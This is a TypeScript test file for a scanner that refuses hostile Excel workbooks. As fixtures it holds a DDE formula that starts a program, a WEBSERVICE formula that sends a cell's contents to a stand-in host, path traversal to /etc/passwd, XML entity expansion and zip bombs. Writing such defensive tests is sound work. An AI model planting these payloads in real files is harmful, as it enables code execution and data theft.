import { describe, expect, it } from 'vitest';
import { scan, UNPACKED_BYTES, WORKBOOK_BYTES } from '../../../shared/workbook/scan.ts';
import { writePages } from '../../../shared/workbook/write.ts';
import { cell, type Packed, parts, zip } from './zip.ts';

const sound = parts(`<row r="1">${cell('A1', '项目名称')}</row>`);
const sheet = (rows: string) => zip(parts(rows));
const plus = (...more: readonly Packed[]) => zip([...sound, ...more]);
const having = (name: string, change: Partial<Packed>) => zip(sound.map((part) => (part.name === name ? { ...part, ...change } : part)));
const SHEET = 'xl/worksheets/sheet1.xml';

describe('a workbook that is what it says', () => {
  it('passes, handmade or written by us', async () => {
    expect(scan(zip(sound))).toEqual({ sound: true });
    const written = await writePages([{ name: '表', widths: [10], boxes: [{ row: 0, column: 0, value: '甲' }] }]);
    expect(scan(Buffer.from(written))).toEqual({ sound: true });
  });

  it('passes with formulas that stay inside', () => {
    for (const formula of ['SUM(B2:B9)', 'IF(A2="a|b","!","")', 'B2/C2*100', "'资金 表'!B2"])
      expect(scan(sheet(`<row r="1"><c r="A1"><f>${formula}</f><v>1</v></c></row>`)), formula).toEqual({ sound: true });
  });

  it('passes with hyperlinks, and with cells far out that only have a format', () => {
    const link = (type: string) => ({
      name: 'xl/worksheets/_rels/sheet1.xml.rels',
      content: `<Relationships><Relationship Id="r1" Type="http://x/${type}" Target="http://y" TargetMode="External"/></Relationships>`,
    });
    expect(scan(plus(link('hyperlink')))).toEqual({ sound: true });
    expect(scan(plus(link('externalLinkPath')))).toMatchObject({ refusal: 'active' });
    expect(scan(sheet(`<row r="1">${cell('A1', 'x')}<c r="XFD1" s="1"/></row><row r="1048576"><c r="A1048576" s="1"/></row>`))).toEqual({
      sound: true,
    });
  });
});

describe('a hostile file', () => {
  it.each<[string, Buffer, string]>([
    ['an old .xls', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]), 'type'],
    ['a picture', Buffer.from('89504e470d0a1a0a', 'hex'), 'type'],
    ['nothing', Buffer.alloc(0), 'type'],
    ['an archive of something else', zip([{ name: 'word/document.xml', content: '<w/>' }]), 'type'],
    ['more than we take', Buffer.concat([zip(sound), Buffer.alloc(WORKBOOK_BYTES)]), 'size'],
    ['a bomb by its declared size', having(SHEET, { says: { size: UNPACKED_BYTES + 1 } }), 'size'],
    ['a bomb that really is one', plus({ name: 'xl/media/a.xml', content: Buffer.alloc(8_000_000, 'a') }), 'size'],
    [
      'many parts that are small each',
      plus(...Array.from({ length: 600 }, (_, n) => ({ name: `xl/media/${n}.xml`, content: '' }))),
      'size',
    ],
    ['a directory that declares less than there is', having(SHEET, { says: { size: 10 } }), 'damaged'],
    ['a directory that declares more than there is', having(SHEET, { says: { size: 900_000 } }), 'damaged'],
    ['a password', having(SHEET, { says: { flags: 1 } }), 'damaged'],
    ['a cut end', zip(sound).subarray(0, -60), 'damaged'],
    ['a cut middle', Buffer.concat([zip(sound).subarray(0, 400), zip(sound).subarray(460)]), 'damaged'],
    ['two parts of one name', plus({ name: SHEET, content: '<worksheet/>' }), 'damaged'],
    ['a path that leaves the archive', plus({ name: '../../etc/passwd', content: '' }), 'damaged'],
    ['macros', plus({ name: 'xl/vbaProject.bin', content: 'x' }), 'active'],
    [
      'macros by another name',
      having('[Content_Types].xml', { content: '<Types><Override ContentType="…macroEnabled.main+xml"/></Types>' }),
      'active',
    ],
    ['an old macro sheet', plus({ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }), 'active'],
    ['an embedded object', plus({ name: 'xl/embeddings/oleObject1.bin', content: 'x' }), 'active'],
    ['outside workbooks', plus({ name: 'xl/externalLinks/externalLink1.xml', content: '<x/>' }), 'active'],
    ['outside data', plus({ name: 'xl/connections.xml', content: '<x/>' }), 'active'],
    [
      'entities that grow',
      having(SHEET, { content: '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet>&b;</worksheet>' }),
      'active',
    ],
    ['a formula that fetches', sheet('<row r="1"><c r="A1"><f>WEBSERVICE("http://x/?"&amp;B1)</f><v>1</v></c></row>'), 'active'],
    ['a formula that is a link', sheet('<row r="1"><c r="A1"><f>HYPERLINK("http://x","好")</f><v>1</v></c></row>'), 'active'],
    ['a formula that starts a program', sheet('<row r="1"><c r="A1"><f>cmd|&apos; /C calc&apos;!A0</f><v>1</v></c></row>'), 'active'],
    ['such a formula spelt by numbers', sheet('<row r="1"><c r="A1"><f>&#87;EBSERVICE("http://x")</f><v>1</v></c></row>'), 'active'],
    [
      'a name for such a formula',
      having('xl/workbook.xml', {
        content: '<workbook><definedNames><definedName name="a">EXEC("x")</definedName></definedNames></workbook>',
      }),
      'active',
    ],
    ['markup in UTF-16', having(SHEET, { content: Buffer.from('\ufeff<!DOCTYPE x>', 'utf16le') }), 'damaged'],
    ['two cells that make a giant', sheet(`<row r="1">${cell('A1', 'x')}${cell('XFD1048576', 'x')}</row>`), 'extent'],
    ['a line too far down', sheet(`<row r="20001">${cell('A20001', 'x')}</row>`), 'extent'],
  ])('with %s is refused', (_, bytes, refusal) => {
    expect(scan(bytes)).toMatchObject({ sound: false, refusal, says: expect.stringMatching(/\p{Script=Han}/u) });
  });

  it('is refused in a moment, whatever it declares', () => {
    const bomb = zip([
      ...sound,
      ...Array.from({ length: 400 }, (_, n) => ({ name: `xl/media/${n}.xml`, content: 'a', says: { size: 0xfffffff0 } })),
    ]);
    const begun = performance.now();
    expect(scan(bomb)).toMatchObject({ refusal: 'size' });
    // Reading what it declares would take minutes.
    expect(performance.now() - begun).toBeLessThan(2000);
  });

  it('whose entries share their bytes is refused', () => {
    const bytes = plus({ name: 'xl/media/a.xml', content: 'a' });
    // The last entry's data is said to begin at the first one's.
    bytes.writeUInt32LE(0, bytes.lastIndexOf(Buffer.from('504b0102', 'hex')) + 42);
    expect(scan(bytes)).toMatchObject({ refusal: 'damaged' });
  });
});
